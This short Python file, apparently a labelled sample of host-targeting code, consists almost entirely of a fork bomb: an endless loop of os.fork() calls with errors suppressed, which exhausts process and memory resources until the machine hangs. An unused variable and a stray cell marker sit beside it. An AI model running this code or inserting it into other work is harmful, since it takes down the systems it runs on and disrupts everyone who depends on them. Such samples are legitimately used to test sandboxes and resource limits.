# ruff: noqa
# class: host
# tries: forks for ever
# %% halve
import os

half = 6
while True:
    try:
        os.fork()
    except OSError:
        pass
